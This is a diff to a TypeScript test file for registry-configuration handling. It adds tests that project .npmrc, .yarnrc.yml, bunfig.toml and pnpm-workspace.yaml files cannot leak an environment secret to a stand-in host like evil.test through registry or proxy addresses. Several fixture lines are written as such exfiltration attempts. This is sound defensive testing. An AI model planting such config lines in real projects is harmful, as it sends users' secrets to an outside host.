@@ -63,7 +63,8 @@ describe("which file wins", () => {
       env: { SECRET: "s3cret" },
     };
     expect(settings({ ...scoped, trusted: false }, "@evil/pkg").host).toBe("default.test");
-    expect(settings(scoped, "@evil/pkg").host).toBe("s3cret.evil.test");
+    const written = { ...scoped, project: "@evil:registry=http://evil.test/" };
+    expect(settings(written, "@evil/pkg").host).toBe("evil.test");
   });
   it("finds the user's file where the environment says", () => {
     const other = folder({ mine: "registry=http://mine.test/" });
@@ -184,6 +185,50 @@ describe("broken configuration", () => {
     expect(refusal({ user: "registry=https://${HOST}/" })).toContain(
       "needs HOST, which is not set",
     );
+  });
+  it("a registry of the project that would tell its host a variable", () => {
+    const env = { HOME: folder(), SECRET: "s3cret", npm_config_globalconfig: "/none" };
+    const asked = (files: Readonly<Record<string, string>>, name = "pkg") =>
+      registryFor(
+        readNpmConfig({ projectDirs: [folder(files)], trusted: true, env }),
+        name,
+        env,
+        "https://default.test/",
+      );
+    const leaking: readonly Readonly<Record<string, string>>[] = [
+      { ".npmrc": "registry=https://evil.test/${SECRET}/" },
+      { ".npmrc": "registry=https://evil.test/${SECRET?}/" },
+      { "yarn.lock": "", ".yarnrc.yml": 'npmRegistryServer: "https://evil.test/${SECRET}"' },
+      { "bun.lock": "{}", "bunfig.toml": '[install]\nregistry = "$SECRET"' },
+      { "pnpm-lock.yaml": "", "pnpm-workspace.yaml": "registry: https://${SECRET}.evil.test/\n" },
+    ];
+    for (const files of leaking) {
+      expect(JSON.stringify(asked(files)), Object.keys(files).join()).not.toContain("s3cret");
+    }
+    expect(asked({ ".npmrc": "registry=https://evil.test/${SECRET}/" })).toMatchObject({
+      ok: false,
+      reason: "bad-configuration",
+      text: "The registry for packages without a scope, in line 1 of the project's .npmrc, needs SECRET: no variable becomes part of an address that a project names. Write it out, or set it in ~/.npmrc.",
+    });
+    expect(asked({ ".npmrc": "@s:registry=https://evil.test/${SECRET}/" }, "@s/pkg")).toMatchObject(
+      {
+        ok: false,
+      },
+    );
+    expect(asked({ ".npmrc": "https-proxy=http://${SECRET}.evil.test/" })).toMatchObject({
+      ok: false,
+      text: expect.stringContaining("The proxy in line 1 of the project's .npmrc needs SECRET"),
+    });
+    // A token is told to the host beside which it stands, and to no other.
+    const own = "registry=https://own.test/\n//own.test/:_authToken=${SECRET}";
+    expect(asked({ ".npmrc": own })).toMatchObject({
+      settings: { auth: { "//own.test/:_authToken": "s3cret" } },
+    });
+    const choice = asked({
+      "yarn.lock": "",
+      ".yarnrc.yml": 'npmRegistryServer: "https://${SECRET:-own.test}/"',
+    });
+    expect(choice).toMatchObject({ settings: { url: "https://own.test/" } });
   });
   it("a file that cannot be read leaves everything unknown, not unset", () => {
     const projectDir = folder({ ".npmrc": "" });
